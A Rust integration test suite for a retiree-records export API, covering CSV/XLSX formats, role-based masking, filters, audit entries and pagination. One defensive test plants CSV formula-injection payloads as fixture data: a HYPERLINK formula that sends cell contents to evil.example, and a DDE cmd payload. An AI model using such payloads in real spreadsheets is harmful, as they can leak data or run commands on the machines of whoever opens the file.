//! `GET /api/v1/exports/retirees`: CSV (UTF-8 with BOM, GB18030) and XLSX, the import columns, list masking,
//! filters and scope, roles, validation, streaming over several pages, audit.

use std::collections::{HashMap, HashSet};
use std::time::Duration;

use app::retirees::file::COLUMNS;
use serde_json::{Value, json};

use crate::both_backends;
use crate::helpers::*;

const PATH: &str = "/api/v1/exports/retirees";
const XLSX_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A raw answer: the body as bytes (the shared helper reads text).
struct Raw {
    status: u16,
    headers: HashMap<String, String>,
    body: Vec<u8>,
}

impl Raw {
    fn header(&self, name: &str) -> &str {
        self.headers.get(name).map(String::as_str).unwrap_or_default()
    }

    /// The UTF-8 body without its byte-order mark (which must be there).
    fn utf8_text(&self) -> String {
        assert!(self.body.starts_with(b"\xEF\xBB\xBF"), "no UTF-8 BOM");
        String::from_utf8(self.body[3..].to_vec()).unwrap()
    }
}

async fn export(app: &TestApp, query: &str, login: &str, headers: &[(&str, &str)]) -> Raw {
    let client = awc::Client::builder().timeout(Duration::from_secs(120)).finish();
    let mut req = client
        .get(format!("{}{PATH}{query}", app.base))
        .insert_header(("Authorization", format!("Bearer {}", app.token(login))));
    for (k, v) in headers {
        req = req.insert_header((*k, *v));
    }
    let mut res = req.send().await.expect("send");
    let body = res.body().limit(256 << 20).await.expect("body").to_vec();
    let headers =
        res.headers().iter().map(|(k, v)| (k.as_str().to_owned(), v.to_str().unwrap_or_default().to_owned())).collect();
    Raw { status: res.status().as_u16(), headers, body }
}

/// A CSV export as rows of cells (CRLF lines, RFC 4180 quoting), header included.
async fn csv_rows(app: &TestApp, query: &str, login: &str) -> Vec<Vec<String>> {
    let res = export(app, query, login, &[]).await;
    assert_eq!(res.status, 200, "{}", String::from_utf8_lossy(&res.body));
    assert_eq!(res.header("content-type"), "text/csv; charset=utf-8");
    parse_csv(&res.utf8_text())
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\r', false) => {
                assert_eq!(chars.next(), Some('\n'), "a bare CR");
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            ('\n', false) => panic!("a line ends without CR"),
            (c, _) => cell.push(c),
        }
    }
    assert!(cell.is_empty() && row.is_empty(), "the last line has no CRLF");
    rows
}

/// Rows after the header, checking the header.
fn body_rows(rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
    assert_eq!(rows[0], COLUMNS.to_vec());
    rows.into_iter().skip(1).collect()
}

/// The value of `column` in a row.
fn cell<'a>(row: &'a [String], column: &str) -> &'a str {
    &row[COLUMNS.iter().position(|c| *c == column).unwrap()]
}

fn names(rows: &[Vec<String>]) -> Vec<String> {
    rows.iter().map(|r| cell(r, "name").to_owned()).collect()
}

fn masked_id(id: &str) -> String {
    format!("{}********{}", &id[..6], &id[14..])
}

/// A person with flags, notes that need quoting, everything filled in.
fn full_body() -> Value {
    let mut body = retiree_body("350203001001", 1);
    body["name"] = json!("张甲");
    body["party_member"] = json!(true);
    body["special_groups"] = json!([
        {"group": "living_alone", "from": "2024-01-01"},
        {"group": "seriously_ill", "from": "2023-05-01", "to": "2024-04-30"}
    ]);
    body["notes"] = json!("住三楼, 说\"方言\"");
    body
}

/// Four people: 张甲 and 张乙 (individually insured) in 鸿山, 张丙 in 蜂巢山 (all 思明), 张丁 in 湖里.
async fn four_people(app: &TestApp) -> Vec<Value> {
    let mut out = vec![app.create_retiree("city", &full_body()).await];
    for (seq, name, community, category) in [
        (2, "张乙", "350203001001", "individually_insured"),
        (3, "张丙", "350203001004", "enterprise_employee"),
        (4, "张丁", "350206001001", "enterprise_employee"),
    ] {
        let mut body = retiree_body(community, seq);
        body["name"] = json!(name);
        body["category"] = json!(category);
        out.push(app.create_retiree("city", &body).await);
    }
    out
}

/// Inserts `n` retirees straight into the database (one transaction): the HTTP path is too slow for thousands.
fn insert_many(app: &TestApp, n: u32) -> Vec<(String, String)> {
    let communities = ["350203001001", "350203001004", "350206001001"];
    let mut conn = app.conn();
    persistence::write_tx(&mut conn, |conn| -> Result<_, persistence::RepoError> {
        let mut out = Vec::new();
        for i in 0..n {
            let mut body = retiree_body(communities[(i % 3) as usize], 0);
            body["id_number"] = json!(id_number("350203", &format!("19{}0101", 40 + i / 1000), (i % 1000) as u16));
            body["name"] = json!(format!("批量{i}"));
            let request: app::retirees::registration::CreateRetireeRequest = serde_json::from_value(body).unwrap();
            let (data, flags, _) = app::retirees::registration::validate_new(request, crate::helpers::today()).unwrap();
            persistence::retirees::create(conn, &data, &flags, crate::helpers::today())?;
            out.push((data.id_number, data.community_code));
        }
        Ok(out)
    })
    .unwrap()
}

both_backends! {
    async fn csv_has_bom_the_import_header_and_list_masking(app: &TestApp) {
        let body = full_body();
        app.create_retiree("city", &body).await;
        let id = body["id_number"].as_str().unwrap();
        let res = export(app, "", "platform", &[]).await;
        assert_eq!(res.status, 200);
        assert_eq!(res.header("content-type"), "text/csv; charset=utf-8");
        let disposition = res.header("content-disposition");
        let date = disposition.strip_prefix("attachment; filename=\"retirees-").and_then(|d| d.strip_suffix(".csv\"")).unwrap();
        assert!(date.len() == 8 && date.chars().all(|c| c.is_ascii_digit()), "{disposition}");
        let text = res.utf8_text();
        let header = "name,id_number,sex,birth_date,retirement_date,category,management_level,community_code,phone,address,monthly_pension,party_member,special_groups,notes,last_certified_on,last_certification_method";
        assert_eq!(text.split("\r\n").next(), Some(header));
        // The data platform (integration) sees everything in clear, as in its list.
        let row = format!(
            "张甲,{id},male,1955-01-01,2015-01-01,enterprise_employee,city_managed,350203001001,13812345678,\
             厦门市思明区厦港街道大学路1号,3500.00,true,living_alone:2024-01-01;seriously_ill:2023-05-01:2024-04-30,\
             \"住三楼, 说\"\"方言\"\"\",,\r\n"
        );
        assert_eq!(text, format!("{header}\r\n{row}"));
        // The service centres see the list view: masked.
        for login in ["city", "siming", "xiagang", "hongshan"] {
            let rows = body_rows(csv_rows(app, "", login).await);
            assert_eq!(rows.len(), 1, "{login}");
            assert_eq!(cell(&rows[0], "id_number"), masked_id(id), "{login}");
            assert_eq!(cell(&rows[0], "phone"), "138****5678", "{login}");
            assert_eq!(cell(&rows[0], "address"), "厦门市思明区****", "{login}");
            assert_eq!(cell(&rows[0], "notes"), "住三楼, 说\"方言\"", "{login}");
        }
        // The clear export re-imports: every row passes the checks of a single create unchanged.
        let rows = parse_csv(&text);
        let cells: Vec<(&'static str, String)> = COLUMNS.iter().copied().zip(rows[1].iter().cloned()).collect();
        let mut errors = Vec::new();
        let request = app::retirees::file::to_request(&cells, &mut errors).unwrap();
        assert!(errors.is_empty(), "{errors:?}");
        let (data, flags, _) = app::retirees::registration::validate_new(request, crate::helpers::today()).unwrap();
        assert_eq!(data.id_number, id);
        assert_eq!(data.notes.as_deref(), Some("住三楼, 说\"方言\""));
        assert_eq!(app::retirees::file::format_groups(&flags), "living_alone:2024-01-01;seriously_ill:2023-05-01:2024-04-30");
        // One audit entry per export, on the listed subtree, with the filters and format.
        assert_eq!(app.audit_count("retiree.export"), 5);
        let log = app.get("/api/v1/audit-log?action=retiree.export&limit=500", "auditor").await.expect(200);
        let last = &log.body["items"][0];
        assert_eq!(last["object_type"], "retiree_export");
        assert_eq!(last["object_id"], Value::Null);
        assert_eq!(last["detail"]["format"], "csv");
        assert_eq!(last["detail"]["encoding"], "utf-8");
        assert!(!log.text.contains(id), "a clear ID in the audit log");
    }

    async fn filters_scope_and_roles(app: &TestApp) {
        four_people(app).await;
        let rows = |q: &'static str, login: &'static str| async move { names(&body_rows(csv_rows(app, q, login).await)) };
        assert_eq!(rows("", "platform").await, ["张甲", "张乙", "张丙", "张丁"]);
        assert_eq!(rows("?category=individually_insured", "platform").await, ["张乙"]);
        assert_eq!(rows("?jurisdiction=350203001004", "platform").await, ["张丙"]);
        assert_eq!(rows("?jurisdiction=350206", "city").await, ["张丁"]);
        assert_eq!(rows("?jurisdiction=350203001&category=enterprise_employee", "city").await, ["张甲", "张丙"]);
        assert_eq!(rows("?special_group=living_alone", "city").await, ["张甲"]);
        assert_eq!(rows("?special_group=party_member", "city").await, ["张甲"]);
        assert_eq!(rows("?special_group=advanced_age&age_max=75", "city").await, ["张甲", "张乙", "张丙", "张丁"]);
        assert!(rows("?age_min=80", "city").await.is_empty());
        assert_eq!(rows("?name_prefix=%E5%BC%A0%E4%B8%81", "city").await, ["张丁"]);
        // Scope: a district gets its own people only, a community its own.
        assert_eq!(rows("", "siming").await, ["张甲", "张乙", "张丙"]);
        assert_eq!(rows("", "huli").await, ["张丁"]);
        assert_eq!(rows("", "fengchaoshan").await, ["张丙"]);
        let exports = 13;
        // A node outside the subtree is refused like the list refuses it.
        let token = app.token("siming");
        let res = app.request("GET", &format!("{PATH}?jurisdiction=350206"), Some(&token), &[], None).await;
        let res = res.problem(422, "jurisdiction_not_found");
        assert_eq!(res.first_field(), "jurisdiction");
        app.get(&format!("{PATH}?jurisdiction=350299"), "city").await.problem(422, "jurisdiction_not_found");
        // Roles without retiree.export.
        for login in ["admin", "importer", "leader", "archivist", "finance", "auditor"] {
            app.get(PATH, login).await.problem(403, "forbidden");
        }
        app.request("GET", PATH, None, &[], None).await.problem(401, "missing_token");
        // Bad parameters are 422 naming the parameter.
        for (query, field, code) in [
            ("?format=pdf", "format", "invalid_enum"),
            ("?encoding=latin1", "encoding", "invalid_enum"),
            ("?format=xlsx&encoding=gb18030", "encoding", "encoding_csv_only"),
            ("?age_min=abc", "age_min", "age_range"),
            ("?age_max=200", "age_max", "age_range"),
            ("?age_min=80&age_max=70", "age_max", "age_order"),
            ("?category=astronaut", "category", "invalid_enum"),
            ("?special_group=rich", "special_group", "invalid_enum"),
        ] {
            let res = app.get(&format!("{PATH}{query}"), "city").await.problem(422, code);
            assert_eq!(res.first_field(), field, "{query}");
        }
        let res = app.get(&format!("{PATH}?format=pdf&encoding=latin1"), "city").await.problem(422, "validation_failed");
        assert_eq!(res.body["errors"].as_array().unwrap().len(), 2);
        // Refused exports leave no export entry.
        assert_eq!(app.audit_count("retiree.export"), exports);
    }

    async fn gb18030_and_xlsx(app: &TestApp) {
        let body = full_body();
        app.create_retiree("city", &body).await;
        let utf8 = export(app, "", "city", &[]).await;
        let gb = export(app, "?encoding=gb18030", "city", &[]).await;
        assert_eq!(gb.status, 200);
        assert_eq!(gb.header("content-type"), "text/csv; charset=gb18030");
        assert!(!gb.body.starts_with(b"\xEF\xBB\xBF"));
        assert_ne!(gb.body, utf8.body[3..].to_vec());
        let (decoded, had_errors) = encoding_rs::GB18030.decode_without_bom_handling(&gb.body);
        assert!(!had_errors);
        assert_eq!(decoded, utf8.utf8_text());
        assert_eq!(export(app, "?encoding=UTF-8", "city", &[]).await.body, utf8.body);

        // XLSX: by parameter or by Accept; with `labels=codes` the same header and cells (dates and money typed).
        let csv = body_rows(parse_csv(&export(app, "", "platform", &[]).await.utf8_text()));
        for (query, headers) in [("?format=xlsx&labels=codes", vec![]), ("?labels=codes", vec![("Accept", XLSX_TYPE)])] {
            let res = export(app, query, "platform", &headers).await;
            assert_eq!(res.status, 200, "{}", String::from_utf8_lossy(&res.body));
            assert_eq!(res.header("content-type"), XLSX_TYPE);
            assert!(res.header("content-disposition").ends_with(".xlsx\""), "{:?}", res.headers);
            let sheet = read_xlsx(&res.body);
            assert_eq!(sheet.len(), 2);
            assert_eq!(sheet[0], COLUMNS.iter().map(|c| Some((*c).to_owned())).collect::<Vec<_>>());
            let row: Vec<String> = sheet[1].iter().map(|c| c.clone().unwrap_or_default()).collect();
            assert_eq!(row, csv[0]);
            assert_eq!(cell(&row, "id_number"), body["id_number"].as_str().unwrap());
        }
        // `format` wins over Accept.
        let res = export(app, "?format=csv", "platform", &[("Accept", XLSX_TYPE)]).await;
        assert_eq!(res.header("content-type"), "text/csv; charset=utf-8");
        assert_eq!(app.audit_count("retiree.export"), 7);
    }

    async fn csv_cells_that_look_like_formulas_are_written_as_text(app: &TestApp) {
        // OWASP CSV injection: a spreadsheet runs a cell starting with =, +, - or @ as a formula.
        let mut body = retiree_body("350203001001", 1);
        body["name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")");
        body["address"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
        body["notes"] = json!("-2+3");
        app.create_retiree("city", &body).await;
        let mut plain = retiree_body("350203001001", 2);
        plain["name"] = json!("李四");
        plain["notes"] = json!("'quoted a=b");
        app.create_retiree("city", &plain).await;
        let address = body["address"].as_str().unwrap();
        let masked_address: String = address.chars().take(6).collect::<String>() + "****";
        for (login, shown_address) in [("platform", address.to_owned()), ("city", masked_address)] {
            let utf8 = export(app, "", login, &[]).await;
            let gb = export(app, "?encoding=gb18030", login, &[]).await;
            let (decoded, had_errors) = encoding_rs::GB18030.decode_without_bom_handling(&gb.body);
            assert!(!had_errors);
            for text in [utf8.utf8_text(), decoded.into_owned()] {
                let rows = body_rows(parse_csv(&text));
                assert_eq!(cell(&rows[0], "name"), format!("'{}", body["name"].as_str().unwrap()), "{login}");
                assert_eq!(cell(&rows[0], "address"), format!("'{shown_address}"), "{login}: the shown address");
                assert_eq!(cell(&rows[0], "notes"), "'-2+3", "{login}");
                // Other cells are as stored.
                assert_eq!(cell(&rows[1], "name"), "李四");
                assert_eq!(cell(&rows[1], "notes"), "'quoted a=b");
                assert_eq!(cell(&rows[1], "monthly_pension"), "3500.00");
            }
        }
        // XLSX cells are strings, never formulas: they keep the value as it is.
        let sheet = read_xlsx(&export(app, "?format=xlsx", "platform", &[]).await.body);
        let column = COLUMNS.iter().position(|c| *c == "name").unwrap();
        assert_eq!(sheet[1][column].as_deref(), body["name"].as_str());
    }

    async fn exports_over_several_pages_hold_every_row_once(app: &TestApp) {
        let inserted = insert_many(app, 2_500 + 101);
        let expected: HashSet<&str> = inserted.iter().map(|(id, _)| id.as_str()).collect();
        let rows = body_rows(csv_rows(app, "", "platform").await);
        assert_eq!(rows.len(), inserted.len());
        let ids: Vec<&str> = rows.iter().map(|r| cell(r, "id_number")).collect();
        assert_eq!(ids.iter().copied().collect::<HashSet<_>>(), expected);
        // By id: the order of insertion.
        assert_eq!(ids, inserted.iter().map(|(id, _)| id.as_str()).collect::<Vec<_>>());
        // A filter over several pages too (every third is in 湖里).
        let huli = body_rows(csv_rows(app, "?jurisdiction=350206", "platform").await);
        assert_eq!(huli.len(), inserted.iter().filter(|(_, c)| c == "350206001001").count());
        assert!(huli.iter().all(|r| cell(r, "community_code") == "350206001001"));
        // GB18030 pages are whole rows.
        let gb = export(app, "?encoding=gb18030", "platform", &[]).await;
        let (decoded, had_errors) = encoding_rs::GB18030.decode_without_bom_handling(&gb.body);
        assert!(!had_errors);
        assert_eq!(body_rows(parse_csv(&decoded)).len(), inserted.len());
        // XLSX over several pages.
        let res = export(app, "?format=xlsx", "platform", &[]).await;
        assert_eq!(res.status, 200);
        let sheet = read_xlsx(&res.body);
        assert_eq!(sheet.len(), inserted.len() + 1);
        let column = COLUMNS.iter().position(|c| *c == "id_number").unwrap();
        let xlsx_ids: HashSet<&str> = sheet[1..].iter().map(|r| r[column].as_deref().unwrap()).collect();
        assert_eq!(xlsx_ids, expected);
        assert_eq!(app.audit_count("retiree.export"), 4);
    }
}

/// The first sheet as rows of optional texts as the CSV writes them: dates `YYYY-MM-DD`, numbers with two
/// decimals (issue 22 types them); fails on any other kind of cell.
fn read_xlsx(bytes: &[u8]) -> Vec<Vec<Option<String>>> {
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let epoch = time::Date::from_calendar_date(1899, time::Month::December, 30).unwrap();
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|c| match c {
                    Data::String(s) => Some(s.clone()),
                    Data::Empty => None,
                    Data::DateTime(d) => Some((epoch + time::Duration::days(d.as_f64() as i64)).to_string()),
                    Data::Float(f) => Some(format!("{f:.2}")),
                    other => panic!("a cell neither text, date nor number: {other:?}"),
                })
                .collect()
        })
        .collect()
}
